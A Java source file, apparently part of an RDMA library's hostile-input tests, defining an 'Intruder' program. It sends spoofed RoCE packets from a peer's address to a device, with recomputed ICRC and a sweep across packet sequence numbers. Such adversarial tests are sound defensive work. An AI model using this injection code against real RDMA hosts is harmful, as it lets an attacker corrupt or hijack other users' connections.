package io.urma4j.udma.hostile;

import java.io.IOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.StandardProtocolFamily;
import java.nio.channels.DatagramChannel;
import java.util.HexFormat;
import java.util.concurrent.locks.LockSupport;
import jdk.net.ExtendedSocketOptions;

/**
 * A process of another user, which sends a packet with all PSNs of a row to a device: from the address of the device's peer,
 * by a port that is free, with the ICRC of RoCE. It needs nothing but the JDK, since another user may not read our classes.
 *
 * <p>Arguments: the peer's address, the device's address and port, then for each row the packet before its ICRC in hex, first
 * PSN, step, and count; {@code seconds} comes first. Prints how many packets left.
 */
final class Intruder {
    private static final int PSN_AT = 9;
    private static final int FIELDS = 4; // of a row
    private static final int BURST = 16;
    private static final long PAUSE_NANOS = 1_000_000;

    private final DatagramChannel channel = DatagramChannel.open(StandardProtocolFamily.INET);
    private final InetSocketAddress victim;
    private final InetAddress source;
    private final int sourcePort;
    private long sent;

    private Intruder(InetAddress source, InetSocketAddress victim) throws IOException {
        this.source = source;
        this.victim = victim;
        channel.setOption(ExtendedSocketOptions.IP_DONTFRAGMENT, true); // the identification is 0 then
        channel.bind(new InetSocketAddress(source, 0));
        sourcePort = ((InetSocketAddress) channel.getLocalAddress()).getPort();
    }

    public static void main(String[] args) throws IOException {
        long end = System.nanoTime() + Long.parseLong(args[0]) * 1_000_000_000L;
        Intruder intruder = new Intruder(
                InetAddress.ofLiteral(args[1]),
                new InetSocketAddress(InetAddress.ofLiteral(args[2]), Integer.parseInt(args[3])));
        while (System.nanoTime() - end < 0) {
            for (int row = 4; row < args.length; row += FIELDS) {
                intruder.sweep(
                        HexFormat.of().parseHex(args[row]),
                        Integer.parseInt(args[row + 1]),
                        Integer.parseInt(args[row + 2]),
                        Integer.parseInt(args[row + 3]));
            }
        }
        System.out.println(intruder.sent);
    }

    private void sweep(byte[] packet, int first, int step, int count) throws IOException {
        for (int i = 0; i < count; i++) {
            int psn = first + i * step;
            packet[PSN_AT] = (byte) (psn >> 16);
            packet[PSN_AT + 1] = (byte) (psn >> 8);
            packet[PSN_AT + 2] = (byte) psn;
            channel.send(RoceSeal.sealed(packet, source, sourcePort, victim), victim);
            sent++;
            if (i % BURST == BURST - 1) {
                LockSupport.parkNanos(PAUSE_NANOS); // what overflows the socket is no attack
            }
        }
    }
}
